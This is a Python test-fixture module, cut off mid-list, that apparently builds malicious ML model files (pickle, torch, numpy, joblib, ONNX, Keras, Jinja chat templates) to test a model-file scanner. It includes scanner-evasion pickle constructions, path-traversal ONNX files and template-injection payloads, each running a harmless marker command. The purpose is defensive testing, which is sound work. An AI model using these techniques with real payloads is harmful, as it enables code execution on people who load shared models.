"""Malicious model files, written by code: real libraries where they can carry the attack, hand-assembled
pickle opcodes where the technique needs exact control.

Every pickle-family fixture's payload creates a marker file when the file is loaded the normal way
(`LOADERS`), which the never-execute test uses to prove the payload is real. Each attack also names
the rules the scanner must raise for it. Template attacks carry a loader too: plain (unsandboxed) Jinja
rendering, the way a careless server would render them, runs their payload.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

os.environ.setdefault("HF_HUB_OFFLINE", "1")


@dataclass(frozen=True)
class Attack:
    name: str
    technique: str
    build: Callable[[Path, str], Path]  # (directory, marker path) -> the file (or directory) to scan
    rules: frozenset[str]  # at least one of these must be raised (blocking) on it
    loader: str | None = None  # how it is loaded normally; None: no code payload (layout/structure attacks)


# ---- pickle assembly
def _u(s: str) -> bytes:
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    return _u(module) + _u(name) + b"\x93"


P4 = b"\x80\x04"
TOUCH = "touch {m}"
PYTOUCH = "open({m!r}, 'w').close()"


class _Reduce:
    def __init__(self, fn: object, *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.fn, self.args


def _write(d: Path, name: str, data: bytes) -> Path:
    p = d / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    return p


def _os_system(m: str, protocol: int) -> bytes:
    return pickle.dumps(_Reduce(os.system, TOUCH.format(m=m)), protocol=protocol)


# ---- pickle techniques
def reduce_p0(d: Path, m: str) -> Path:
    return _write(d, "p0.pkl", _os_system(m, 0))


def reduce_p1(d: Path, m: str) -> Path:
    return _write(d, "p1.pkl", _os_system(m, 1))


def reduce_p2(d: Path, m: str) -> Path:
    return _write(d, "p2.pkl", _os_system(m, 2))


def reduce_p4(d: Path, m: str) -> Path:
    return _write(d, "p4.pkl", _os_system(m, 4))


def reduce_p5(d: Path, m: str) -> Path:
    return _write(d, "p5.pkl", _os_system(m, 5))


def builtins_exec(d: Path, m: str) -> Path:
    return _write(d, "exec.pkl", P4 + _sg("builtins", "exec") + _u(PYTOUCH.format(m=m)) + b"\x85R.")


def compat_builtin_eval(d: Path, m: str) -> Path:
    expr = f"__import__('os').system({TOUCH.format(m=m)!r})"
    return _write(d, "eval_p0.pkl", _g("__builtin__", "eval") + b"(V" + expr.encode() + b"\ntR.")


def subprocess_call(d: Path, m: str) -> Path:
    import subprocess

    return _write(d, "subprocess.pkl", pickle.dumps(_Reduce(subprocess.call, ["touch", m]), protocol=2))


def pathlib_dotted(d: Path, m: str) -> Path:
    return _write(d, "pathlib.pkl", P4 + _sg("pathlib", "os.system") + _u(TOUCH.format(m=m)) + b"\x85R.")


def marshal_function(d: Path, m: str) -> Path:
    code = marshal.dumps(compile(PYTOUCH.format(m=m), "<x>", "exec"))
    fn = (
        _sg("types", "FunctionType") + _sg("marshal", "loads") + b"C" + bytes([len(code)]) + code
        if len(code) < 256
        else None
    )
    if fn is None:
        fn = (
            _sg("types", "FunctionType")
            + _sg("marshal", "loads")
            + b"B"
            + struct.pack("<I", len(code))
            + code
        )
    data = P4 + fn + b"\x85R}\x86R)R."
    return _write(d, "marshal.pkl", data)


def spawnv_passfds(d: Path, m: str) -> Path:
    def b(x: str) -> bytes:
        return b"C" + bytes([len(x)]) + x.encode()

    data = (
        P4
        + _sg("multiprocessing.util", "spawnv_passfds")
        + b("/usr/bin/touch")
        + b"("
        + b("touch")
        + b(m)
        + b"l)\x87R."
    )
    return _write(d, "spawnv.pkl", data)


def interactive_interpreter(d: Path, m: str) -> Path:
    data = (
        P4
        + _sg("code", "InteractiveInterpreter.runsource")
        + _sg("code", "InteractiveInterpreter")
        + b")R"
        + _u(PYTOUCH.format(m=m))
        + b"\x86R."
    )
    return _write(d, "interp.pkl", data)


def importlib_getattr(d: Path, m: str) -> Path:
    data = (
        P4
        + _sg("builtins", "getattr")
        + _sg("importlib", "import_module")
        + _u("os")
        + b"\x85R"
        + _u("system")
        + b"\x86R"
        + _u(TOUCH.format(m=m))
        + b"\x85R."
    )
    return _write(d, "importlib.pkl", data)


def pkgutil_resolve(d: Path, m: str) -> Path:
    data = (
        P4 + _sg("pkgutil", "resolve_name") + _u("os:system") + b"\x85R" + _u(TOUCH.format(m=m)) + b"\x85R."
    )
    return _write(d, "pkgutil.pkl", data)


def operator_methodcaller(d: Path, m: str) -> Path:
    data = (
        P4
        + _sg("_operator", "methodcaller")
        + _u("system")
        + _u(TOUCH.format(m=m))
        + b"\x86R"
        + _sg("importlib", "import_module")
        + _u("os")
        + b"\x85R\x85R."
    )
    return _write(d, "methodcaller.pkl", data)


def runpy_run_code(d: Path, m: str) -> Path:
    return _write(d, "runpy.pkl", P4 + _sg("runpy", "_run_code") + _u(PYTOUCH.format(m=m)) + b"}\x86R.")


def memo_confusion(d: Path, m: str) -> Path:
    # BINPUT and MEMOIZE mixed so a scanner that tracks only one of them resolves the safe names.
    data = (
        P4
        + _u("os")
        + b"q\x00"
        + _u("system")
        + b"q\x01"
        + _u("torch._utils")
        + b"\x94"
        + _u("_rebuild_tensor_v2")
        + b"\x94"
        + b"0000"
        + b"h\x00h\x01\x93"
        + _u(TOUCH.format(m=m))
        + b"\x85R."
    )
    return _write(d, "memo.pkl", data)


def discarded_call(d: Path, m: str) -> Path:
    data = P4 + _sg("os", "system") + _u(TOUCH.format(m=m)) + b"\x85R0}."
    return _write(d, "pop.pkl", data)


def second_pickle(d: Path, m: str) -> Path:
    return _write(d, "two.pkl", pickle.dumps({"w": [1, 2, 3]}, protocol=4) + _os_system(m, 4))


def truncated(d: Path, m: str) -> Path:
    return _write(d, "truncated.pkl", _os_system(m, 2)[:-1] + b"\x85")


def build_on_global(d: Path, m: str) -> Path:
    # The modelscan #85 idea: plant strings on an allowed class with BUILD, then import them back.
    data = (
        P4
        + _sg("argparse", "Namespace")
        + b"N}("
        + _u("a")
        + _u("os")
        + _u("b")
        + _u("system")
        + b"u\x86b0"
        + _sg("argparse", "Namespace.a")
        + _sg("argparse", "Namespace.b")
        + b"\x93"
        + _u(TOUCH.format(m=m))
        + b"\x85R."
    )
    return _write(d, "build_global.pkl", data)


def inst_opcode(d: Path, m: str) -> Path:
    return _write(d, "inst.pkl", b"(S'" + TOUCH.format(m=m).encode() + b"'\nios\nsystem\n.")


def obj_opcode(d: Path, m: str) -> Path:
    return _write(d, "obj.pkl", b"(cos\nsystem\nS'" + TOUCH.format(m=m).encode() + b"'\no.")


def ext_registry(d: Path, m: str) -> Path:
    return _write(d, "ext.pkl", b"\x80\x02\x82\xf0" + _u(TOUCH.format(m=m)) + b"\x85R.")


def dynamic_stack_global(d: Path, m: str) -> Path:
    data = (
        P4
        + _sg("builtins", "str")
        + _u("os")
        + b"\x85R"
        + _u("system")
        + b"\x93"
        + _u(TOUCH.format(m=m))
        + b"\x85R."
    )
    return _write(d, "dynamic_global.pkl", data)


def _named(name: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        return _write(d, name, _os_system(m, 4))

    build.__name__ = f"pickle_named_{name}"
    return build


# ---- torch
def _torch_state(m: str) -> dict[str, object]:
    import torch

    return {"weight": torch.ones(2, 2), "_": _Reduce(os.system, TOUCH.format(m=m))}


def torch_zip(d: Path, m: str) -> Path:
    import torch

    p = d / "torch_zip.bin"
    torch.save(_torch_state(m), p)
    return p


def torch_legacy(d: Path, m: str) -> Path:
    import torch

    p = d / "torch_legacy.pt"
    torch.save(_torch_state(m), p, _use_new_zipfile_serialization=False)
    return p


def torch_tar(d: Path, m: str) -> Path:
    import tarfile

    p = d / "torch_tar.pt"
    members = {
        "sys_info": pickle.dumps(
            {
                "protocol_version": 1001,
                "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 8},
            },
            protocol=2,
        ),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": _os_system(m, 2),
    }
    with tarfile.open(p, "w:") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return p


def _benign_torch_zip() -> bytes:
    import torch

    b = io.BytesIO()
    torch.save({"weight": torch.ones(2, 2)}, b)
    return b.getvalue()


def torch_zip_extra_member(d: Path, m: str) -> Path:
    p = _write(d, "torch_extra.bin", _benign_torch_zip())
    with zipfile.ZipFile(p, "a") as z:
        z.writestr("torch_extra/extra/hook.pkl", _os_system(m, 2))
    return p


def torch_zip_hidden_storage(d: Path, m: str) -> Path:
    p = _write(d, "torch_hidden.bin", _benign_torch_zip())
    with zipfile.ZipFile(p, "a") as z:
        z.writestr("torch_hidden/data/99", _os_system(m, 2))
    return p


def torch_zip_name_mismatch(d: Path, m: str) -> Path:
    raw = bytearray(_benign_torch_zip())
    i = raw.find(b"PK\x03\x04")
    nlen = struct.unpack("<H", raw[i + 26 : i + 28])[0]
    name = bytes(raw[i + 30 : i + 30 + nlen])
    raw[i + 30 : i + 30 + nlen] = name[:-1] + b"X"  # the local header now names another member
    return _write(d, "torch_mismatch.bin", bytes(raw))


def torch_zip_encrypted(d: Path, m: str) -> Path:
    raw = bytearray(_benign_torch_zip())
    c = raw.find(b"PK\x01\x02")
    raw[c + 8] |= 0x1
    i = raw.find(b"PK\x03\x04")
    raw[i + 6] |= 0x1
    return _write(d, "torch_encrypted.bin", bytes(raw))


def torch_zip_bad_crc(d: Path, m: str) -> Path:
    raw = bytearray(_benign_torch_zip())
    i = raw.find(b"PK\x03\x04")
    nlen, elen = struct.unpack("<HH", raw[i + 26 : i + 30])
    start = i + 30 + nlen + elen
    raw[start + 5] ^= 0x01  # one byte inside data.pkl's stored data
    return _write(d, "torch_crc.bin", bytes(raw))


# ---- numpy / joblib / wrappers
def npy_object(d: Path, m: str) -> Path:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _Reduce(os.system, TOUCH.format(m=m))
    p = d / "object.npy"
    np.save(p, arr, allow_pickle=True)
    return p


def npz_object(d: Path, m: str) -> Path:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _Reduce(os.system, TOUCH.format(m=m))
    p = d / "object.npz"
    np.savez(p, ok=np.ones(3), x=arr)
    return p


def _joblib(d: Path, m: str, name: str, compress: object) -> Path:
    import joblib
    import numpy as np

    p = d / name
    joblib.dump(
        {"coef": np.ones((3, 3)), "hook": _Reduce(os.system, TOUCH.format(m=m)), "bias": np.zeros(4)},
        p,
        compress=compress,
    )
    return p


def joblib_plain(d: Path, m: str) -> Path:
    return _joblib(d, m, "plain.joblib", 0)


def _joblib_c(method: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        return _joblib(d, m, f"{method}.joblib", (method, 3))

    build.__name__ = f"joblib_{method}"
    return build


def gzip_pickle(d: Path, m: str) -> Path:
    return _write(d, "model.pkl.gz", gzip.compress(_os_system(m, 4)))


def bz2_pickle(d: Path, m: str) -> Path:
    return _write(d, "model.pkl.bz2", bz2.compress(_os_system(m, 4)))


def xz_pickle(d: Path, m: str) -> Path:
    return _write(d, "model.pkl.xz", lzma.compress(_os_system(m, 4)))


def nested_zip(d: Path, m: str) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("inner/weights.pkl", _os_system(m, 4))
    p = d / "bundle.zip"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("models/inner.zip", inner.getvalue())
    return p


def deep_nesting(d: Path, m: str) -> Path:
    data = _os_system(m, 4)
    for i in range(8):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr(f"level{i}.bin", data)
        data = b.getvalue()
    return _write(d, "deep.zip", data)


def gzip_bomb(d: Path, m: str) -> Path:
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\x00" * (1 << 20)
    out = b"".join(c.compress(chunk) for _ in range(64)) + c.flush()
    return _write(d, "bomb.gz", out)


def memo_flood(d: Path, m: str) -> Path:
    body = b"".join(b"r" + struct.pack("<I", i) for i in range(1_100_000))
    return _write(d, "memo_flood.pkl", P4 + b"N" + body + b"0" + _os_system(m, 4)[2:])


# ---- safetensors
def _st(d: Path, name: str, header: dict[str, object] | str, data: bytes, hlen: int | None = None) -> Path:
    h = header.encode() if isinstance(header, str) else json.dumps(header).encode()
    return _write(d, name, struct.pack("<Q", hlen if hlen is not None else len(h)) + h + data)


def st_header_overflow(d: Path, m: str) -> Path:
    return _st(
        d,
        "overflow.safetensors",
        {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
        b"\x00" * 4,
        hlen=10_000,
    )


def st_overlap(d: Path, m: str) -> Path:
    return _st(
        d,
        "overlap.safetensors",
        {
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
        },
        b"\x00" * 12,
    )


def st_duplicate(d: Path, m: str) -> Path:
    h = (
        '{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
        '"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}'
    )
    return _st(d, "dup.safetensors", h, b"\x00" * 4)


def st_bad_dtype(d: Path, m: str) -> Path:
    return _st(
        d, "dtype.safetensors", {"a": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4
    )


def st_hole(d: Path, m: str) -> Path:
    return _st(
        d,
        "hole.safetensors",
        {
            "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
            "b": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]},
        },
        b"\x00" * 16,
    )


def st_size_mismatch(d: Path, m: str) -> Path:
    return _st(
        d, "size.safetensors", {"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 8]}}, b"\x00" * 8
    )


# ---- ONNX -------------------------------------------------------------------------------------------------
def _onnx_external(d: Path, location: str, folder: str) -> Path:
    import onnx
    from onnx import TensorProto, helper

    w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 2])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "32")):
        e = w.external_data.add()
        e.key, e.value = k, v
    node = helper.make_node("MatMul", ["X", "W"], ["Y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [w],
    )
    out = d / folder
    out.mkdir(parents=True, exist_ok=True)
    p = out / "model.onnx"
    onnx.save(helper.make_model(graph), str(p))
    return p


def onnx_dotdot(d: Path, m: str) -> Path:
    return _onnx_external(d, "../../../../etc/passwd", "onnx_dotdot")


def onnx_absolute(d: Path, m: str) -> Path:
    return _onnx_external(d, "/etc/passwd", "onnx_abs")


def onnx_symlink(d: Path, m: str) -> Path:
    p = _onnx_external(d, "weights.data", "onnx_link")
    (p.parent / "weights.data").symlink_to("/etc/passwd")
    return p


def onnx_custom_domain(d: Path, m: str) -> Path:
    import onnx
    from onnx import TensorProto, helper

    node = helper.make_node("EvilOp", ["X"], ["Y"], domain="com.attacker.ops")
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.ops", 1)]
    )
    p = d / "custom_domain.onnx"
    onnx.save(model, str(p))
    return p


# ---- templates
SSTI = (
    "{% for m in messages %}{{ m.content }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
)
SSTI_MRO = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
SSTI_ATTR = "{{ messages|attr('__cla' ~ 'ss__') }}{% set x = lipsum|attr(request) %}"


def gguf_template(d: Path, m: str) -> Path:
    from tests.support.scanner.benign import gguf_file

    gguf_file(d, SSTI, "evil.gguf")
    return d / "evil.gguf"


def tokenizer_template(d: Path, m: str) -> Path:
    return _write(d, "tok/tokenizer_config.json", json.dumps({"chat_template": SSTI_MRO}).encode())


def tokenizer_template_list(d: Path, m: str) -> Path:
    return _write(
        d,
        "toklist/tokenizer_config.json",
        json.dumps(
            {
                "chat_template": [
                    {"name": "default", "template": "{{ messages[0].content }}"},
                    {"name": "rag", "template": SSTI},
                ]
            }
        ).encode(),
    )


def jinja_template(d: Path, m: str) -> Path:
    return _write(d, "chat_template.jinja", SSTI_ATTR.encode())


# ---- keras
def _keras_zip(d: Path, name: str, cfg: dict[str, object]) -> Path:
    p = d / name
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(cfg))
        z.writestr("model.weights.h5", b"")
    return p


def keras_nested_lambda(d: Path, m: str) -> Path:
    inner = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "sneaky",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None},
                        },
                    },
                }
            ]
        },
    }
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"layers": [inner]}}
    return _keras_zip(d, "lambda.keras", cfg)


def keras_builtins_function(d: Path, m: str) -> Path:
    cfg = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Activation",
                    "config": {
                        "activation": {
                            "module": "builtins",
                            "class_name": "function",
                            "config": "exec",
                            "registered_name": "function",
                        }
                    },
                }
            ]
        },
    }
    return _keras_zip(d, "function.keras", cfg)


def h5_lambda(d: Path, m: str) -> Path:
    import h5py

    p = d / "lambda.h5"
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = json.dumps(
            {
                "class_name": "Sequential",
                "config": {
                    "layers": [
                        {
                            "class_name": "Lambda",
                            "config": {
                                "name": "l",
                                "function": ["4wEAAAAA", None, None],
                                "function_type": "lambda",
                            },
                        }
                    ]
                },
            }
        )
    return p


def hf_auto_map(d: Path, m: str) -> Path:
    return _write(
        d,
        "remote/config.json",
        json.dumps({"model_type": "custom", "auto_map": {"AutoModel": "evil/repo--modeling.Model"}}).encode(),
    )


def hf_modeling_py(d: Path, m: str) -> Path:
    return _write(d, "remote_py/modeling_evil.py", f"import os\nos.system('touch {m}')\n".encode())


# ---- families grown after the first corpus: each builder reuses its regression test's construction
# (tests/scanner/test_pickle_families.py, test_containers.py, test_templates.py), imported lazily so
# that this module stays importable without those tests' dependencies.
def _text_pickle(prefix: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_pickle_families import TEXT_PREFIXES, _touch

        return _write(d, "model.bin", TEXT_PREFIXES[prefix] + _touch(Path(m)))

    return build


def _first_opcode(name: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_pickle_families import FIRST_OPCODES, _touch

        return _write(d, "model.bin", FIRST_OPCODES[name] + _touch(Path(m)))

    return build


def _joblib_wrapper(route: str, align: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_pickle_families import _joblib_stream, _touch

        return _write(d, "model.joblib", _joblib_stream(route, align, _touch(Path(m))))

    return build


def _joblib_plain(where: str, payload: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_pickle_families import PAYLOADS, _plain_payload_file

        return _write(d, "model.joblib", _plain_payload_file(where, PAYLOADS[payload](m)))

    return build


def _npy_spelling(descr: str, version: int) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_pickle_families import _npy, _touch

        return _write(d, "array.npy", _npy(descr, b"\x80\x02" + _touch(Path(m)), version))

    return build


def _zip_behind(head: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_containers import GIF, PNG, _payload, _torch_zip_with

        return _write(d, "preview.bin", {"gif": GIF, "png": PNG}[head] + _torch_zip_with(_payload(Path(m))))

    return build


def torch_tar_v7(d: Path, m: str) -> Path:
    import tarfile

    from tests.scanner.test_containers import _as_v7, _legacy_torch_tar

    return _write(d, "legacy.pt", _as_v7(_legacy_torch_tar(Path(m), tarfile.USTAR_FORMAT)))


def _computed_template(variant: str, carrier: str) -> Callable[[Path, str], Path]:
    def build(d: Path, m: str) -> Path:
        from tests.scanner.test_templates import _variant

        t = _variant(variant, Path(m))
        if carrier == "jinja":
            return _write(d, "chat_template.jinja", t.encode())
        return _write(d, "tokenizer_config.json", json.dumps({"chat_template": t}).encode())

    return build


TEXT_PICKLES = ("int-plus", "int-underscore", "int-hex", "long-suffix", "float-spelling", "string-escape")
FIRST_OPCODE_PICKLES = ("empty-set", "newtrue", "long1", "binbytes8", "frame")
JOBLIB_WRAPPERS = (
    ("newobj-ex", "false"),
    ("obj-empty", "zero"),
    ("reconstructor", "empty-str"),
    ("inst-init", "absent"),
)
NPY_SPELLINGS = (("'O8'", 1), ("'object'", 2), ("[('a', '<f8'), ('b', '|O')]", 3), ("'(2,)O'", 1))
TEMPLATES = (("tilde", "json"), ("format", "jinja"), ("join", "json"), ("namespace", "jinja"))


P = {"unsafe-pickle-import"}
ATTACKS: list[Attack] = [
    Attack("reduce-protocol-0", "os.system via REDUCE, protocol 0", reduce_p0, frozenset(P), "pickle"),
    Attack(
        "reduce-protocol-1", "os.system via REDUCE, protocol 1 (no magic)", reduce_p1, frozenset(P), "pickle"
    ),
    Attack("reduce-protocol-2", "os.system via REDUCE, protocol 2", reduce_p2, frozenset(P), "pickle"),
    Attack("reduce-protocol-4", "os.system via REDUCE, protocol 4", reduce_p4, frozenset(P), "pickle"),
    Attack("reduce-protocol-5", "os.system via REDUCE, protocol 5", reduce_p5, frozenset(P), "pickle"),
    Attack("builtins-exec", "builtins.exec of source", builtins_exec, frozenset(P), "pickle"),
    Attack(
        "compat-builtin-eval",
        "__builtin__.eval (protocol 0 name mapping)",
        compat_builtin_eval,
        frozenset(P),
        "pickle",
    ),
    Attack("subprocess-call", "subprocess.call", subprocess_call, frozenset(P), "pickle"),
    Attack("pathlib-dotted", "STACK_GLOBAL pathlib + 'os.system'", pathlib_dotted, frozenset(P), "pickle"),
    Attack(
        "marshal-function", "marshal.loads + types.FunctionType", marshal_function, frozenset(P), "pickle"
    ),
    Attack("spawnv-passfds", "multiprocessing.util.spawnv_passfds", spawnv_passfds, frozenset(P), "pickle"),
    Attack(
        "interactive-interpreter",
        "code.InteractiveInterpreter.runsource",
        interactive_interpreter,
        frozenset(P),
        "pickle",
    ),
    Attack(
        "importlib-getattr", "importlib.import_module + getattr", importlib_getattr, frozenset(P), "pickle"
    ),
    Attack(
        "pkgutil-resolve-name",
        "pkgutil.resolve_name universal bypass",
        pkgutil_resolve,
        frozenset(P),
        "pickle",
    ),
    Attack(
        "operator-methodcaller",
        "_operator.methodcaller on a module",
        operator_methodcaller,
        frozenset(P),
        "pickle",
    ),
    Attack("runpy-run-code", "runpy._run_code", runpy_run_code, frozenset(P), "pickle"),
    Attack(
        "memo-confusion",
        "BINPUT/MEMOIZE mix hides STACK_GLOBAL operands",
        memo_confusion,
        frozenset(P),
        "pickle",
    ),
    Attack("discarded-call", "call whose result is POPped", discarded_call, frozenset(P), "pickle"),
    Attack(
        "second-pickle", "payload in the second pickle of a stream", second_pickle, frozenset(P), "pickle-all"
    ),
    Attack(
        "truncated-stream",
        "payload runs, then the stream breaks",
        truncated,
        frozenset(P | {"malformed-model-file"}),
        "pickle",
    ),
    Attack(
        "build-on-global",
        "BUILD plants strings on an allowed class, re-imported as a name",
        build_on_global,
        frozenset({"pickle-mutates-imported-object", "unresolved-pickle-import"}),
        "pickle",
    ),
    Attack("inst-opcode", "INST opcode", inst_opcode, frozenset(P), "pickle"),
    Attack("obj-opcode", "OBJ opcode", obj_opcode, frozenset(P), "pickle"),
    Attack(
        "ext-registry",
        "EXT1 via the copyreg extension registry",
        ext_registry,
        frozenset({"unresolved-pickle-import"}),
        "pickle-ext",
    ),
    Attack(
        "dynamic-stack-global",
        "STACK_GLOBAL module from a call result",
        dynamic_stack_global,
        frozenset({"unresolved-pickle-import"} | P),
        "pickle",
    ),
    Attack(
        "named-safetensors",
        "pickle named .safetensors",
        _named("weights.safetensors"),
        frozenset(P),
        "pickle",
    ),
    Attack("named-npy", "pickle named .npy", _named("array.npy"), frozenset(P), "numpy"),
    Attack("named-bak", "pickle named .bak", _named("model.bak"), frozenset(P), "pickle"),
    Attack("no-extension", "pickle without an extension", _named("weights"), frozenset(P), "pickle"),
    Attack("torch-zip", "torch.save zip checkpoint with os.system", torch_zip, frozenset(P), "torch"),
    Attack("torch-legacy", "legacy (non-zip) torch checkpoint", torch_legacy, frozenset(P), "torch"),
    Attack("torch-tar", "legacy tar torch checkpoint", torch_tar, frozenset(P), "torch"),
    Attack(
        "torch-extra-member",
        "extra .pkl member in a torch zip",
        torch_zip_extra_member,
        frozenset(P),
        "zip-member:torch_extra/extra/hook.pkl",
    ),
    Attack(
        "torch-hidden-storage",
        "pickle disguised as an unreferenced storage",
        torch_zip_hidden_storage,
        frozenset(P),
        "zip-member:torch_hidden/data/99",
    ),
    Attack(
        "torch-name-mismatch",
        "local header vs central directory name",
        torch_zip_name_mismatch,
        frozenset({"suspicious-archive-structure"}),
    ),
    Attack(
        "torch-encrypted",
        "encrypted member flag",
        torch_zip_encrypted,
        frozenset({"suspicious-archive-structure"}),
    ),
    Attack(
        "torch-bad-crc",
        "CRC mismatch in data.pkl",
        torch_zip_bad_crc,
        frozenset({"suspicious-archive-structure", "malformed-model-file"}),
    ),
    Attack("npy-object", "object array in .npy", npy_object, frozenset(P), "numpy"),
    Attack("npz-object", "object array member in .npz", npz_object, frozenset(P), "numpy"),
    Attack("joblib-plain", "joblib.dump with a payload", joblib_plain, frozenset(P), "joblib"),
    *[
        Attack(f"joblib-{c}", f"joblib {c}-compressed", _joblib_c(c), frozenset(P), "joblib")
        for c in ("zlib", "gzip", "bz2", "xz", "lzma")
    ],
    Attack("gzip-pickle", "pickle in a gzip wrapper", gzip_pickle, frozenset(P), "gzip-pickle"),
    Attack("bz2-pickle", "pickle in a bz2 wrapper", bz2_pickle, frozenset(P), "bz2-pickle"),
    Attack("xz-pickle", "pickle in an xz wrapper", xz_pickle, frozenset(P), "xz-pickle"),
    Attack("nested-zip", "pickle in a zip in a zip", nested_zip, frozenset(P)),
    Attack(
        "deep-nesting",
        "archives nested past the depth bound",
        deep_nesting,
        frozenset({"scan-limit-exceeded"}),
    ),
    Attack("gzip-bomb", "decompression bomb", gzip_bomb, frozenset({"scan-limit-exceeded"})),
    Attack(
        "memo-flood", "memo table past its bound", memo_flood, frozenset({"scan-limit-exceeded"}), "pickle"
    ),
    Attack(
        "st-header-overflow",
        "safetensors header past end",
        st_header_overflow,
        frozenset({"invalid-safetensors-layout", "unrecognised-model-file"}),
    ),
    Attack("st-overlap", "overlapping tensors", st_overlap, frozenset({"invalid-safetensors-layout"})),
    Attack("st-duplicate", "duplicate header keys", st_duplicate, frozenset({"invalid-safetensors-layout"})),
    Attack("st-bad-dtype", "unknown dtype", st_bad_dtype, frozenset({"invalid-safetensors-layout"})),
    Attack("st-hole", "hole between tensors", st_hole, frozenset({"invalid-safetensors-layout"})),
    Attack(
        "st-size-mismatch",
        "bytes do not match shape",
        st_size_mismatch,
        frozenset({"invalid-safetensors-layout"}),
    ),
    Attack("onnx-dotdot", "external data ../ path", onnx_dotdot, frozenset({"onnx-external-data-escapes"})),
    Attack(
        "onnx-absolute",
        "external data absolute path",
        onnx_absolute,
        frozenset({"onnx-external-data-escapes"}),
    ),
    Attack(
        "onnx-symlink",
        "external data through a symlink",
        onnx_symlink,
        frozenset({"onnx-external-data-escapes"}),
    ),
    Attack(
        "onnx-custom-domain",
        "custom operator domain",
        onnx_custom_domain,
        frozenset({"onnx-custom-operator-domain"}),
    ),
    Attack(
        "gguf-template",
        "GGUF chat template reaching os",
        gguf_template,
        frozenset({"template-reaches-python-internals"}),
    ),
    Attack(
        "tokenizer-template",
        "tokenizer_config chat_template __mro__",
        tokenizer_template,
        frozenset({"template-reaches-python-internals"}),
    ),
    Attack(
        "tokenizer-template-list",
        "named chat template list",
        tokenizer_template_list,
        frozenset({"template-reaches-python-internals"}),
    ),
    Attack(
        "jinja-attr-filter",
        ".jinja with attr filter concatenation",
        jinja_template,
        frozenset({"template-reaches-python-internals"}),
    ),
    Attack(
        "keras-nested-lambda",
        "Lambda in a nested sub-model",
        keras_nested_lambda,
        frozenset({"keras-lambda-layer"}),
    ),
    Attack(
        "keras-builtins-function",
        "builtins function reference",
        keras_builtins_function,
        frozenset({"keras-external-reference"}),
    ),
    Attack("h5-lambda", "Keras 2 HDF5 Lambda layer", h5_lambda, frozenset({"keras-lambda-layer"})),
    Attack("hf-auto-map", "auto_map remote code", hf_auto_map, frozenset({"remote-code-in-model-files"})),
    Attack(
        "hf-modeling-py",
        "modeling_*.py remote code",
        hf_modeling_py,
        frozenset({"remote-code-in-model-files"}),
    ),
    *[
        Attack(f"text-pickle-{n}", f"text pickle starting with {n}", _text_pickle(n), frozenset(P), "pickle")
        for n in TEXT_PICKLES
    ],
    *[
        Attack(
